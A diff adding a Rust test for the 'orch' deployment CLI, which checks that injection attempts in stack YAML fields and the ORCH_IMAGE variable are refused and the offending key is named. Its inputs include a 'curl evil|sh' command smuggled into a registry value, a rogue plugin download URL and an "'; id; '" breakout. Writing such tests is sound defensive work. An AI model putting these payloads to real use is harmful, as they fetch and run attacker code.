@@ -173,3 +173,82 @@ fn wrong_type_names_the_line() {
     assert_eq!(out.status.code(), Some(2), "{err}");
     assert!(err.contains(&format!("dev.yaml:{}:", min_line())), "{err}");
 }
+
+/// `orch check --env ENV` on a scratch project whose `stacks/ENV.yaml` is dev's with `edit` applied:
+/// (exit code, stderr).
+fn check_edited(
+    env: &str,
+    edit: impl Fn(String) -> String,
+    vars: &[(&str, &str)],
+) -> (i32, String) {
+    let scratch = Scratch::new();
+    scratch.write(&format!("stacks/{env}.yaml"), &edit(scratch.read("stacks/dev.yaml")));
+    let out =
+        scratch.orch().envs(vars.iter().copied()).args(["check", "--env", env]).output().unwrap();
+    assert!(
+        !scratch.path().join(format!("build/{env}/Pulumi.yaml")).exists(),
+        "nothing is rendered"
+    );
+    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stderr).into_owned())
+}
+
+#[test]
+fn every_injection_into_the_program_or_the_user_data_is_refused_with_exit_2_naming_the_key() {
+    let hex = "a".repeat(64);
+    let pulumi = "pulumi:\n  backend: s3://orch-state-dev\n";
+    type Edit = Box<dyn Fn(String) -> String>;
+    let cases: Vec<(&str, Edit, &str)> = vec![
+        (
+            "dev",
+            Box::new(move |t: String| {
+                t.replace(pulumi, &format!("{pulumi}  aws_native_version: '1.79.0\", pluginDownloadURL: \"https://evil.example/x'\n"))
+            }),
+            "pulumi.aws_native_version",
+        ),
+        (
+            "dev",
+            Box::new(|t: String| t.replace("path: /healthz", "path: \"/healthz\\\"\\n  x: 1\"")),
+            "health_check.path",
+        ),
+        (
+            "dev",
+            Box::new(|t: String| t.replace("type: t3.micro", "type: \"t3.micro\\\"; x\"")),
+            "instances.type",
+        ),
+        (
+            "dev",
+            Box::new(|t: String| {
+                t.replace("instance_class: db.t3.micro", "instance_class: \"db.t3.micro ${x}\"")
+            }),
+            "database.instance_class",
+        ),
+        (
+            "dev",
+            Box::new(|t: String| {
+                t.replace(
+                    "  repository: orch-app\n",
+                    "  repository: orch-app\n  registry: \"r.io'; curl evil|sh; '\"\n",
+                )
+            }),
+            "image.registry",
+        ),
+        (
+            "dev",
+            Box::new(|t: String| t.replace("  env: dev\n", "  env: \"dev\\\" ${imageUri}\"\n")),
+            "tags.env",
+        ),
+        ("dev-", Box::new(|t: String| t), "name"),
+        ("a--b", Box::new(|t: String| t), "name"),
+    ];
+    for (env, edit, key) in cases {
+        let (code, err) = check_edited(env, edit, &[]);
+        assert_eq!(code, 2, "{key}: {err}");
+        assert!(err.contains(key), "`{key}` named in: {err}");
+    }
+    // An image reference from the environment: quotes or a tag are refused before anything runs.
+    for bad in [format!("r.io/app'; id; '@sha256:{hex}"), format!("r.io/app:1@sha256:{hex}")] {
+        let (code, err) = check_edited("dev", |t| t, &[("ORCH_IMAGE", &bad)]);
+        assert_eq!(code, 2, "{err}");
+        assert!(err.contains("ORCH_IMAGE"), "{err}");
+    }
+}
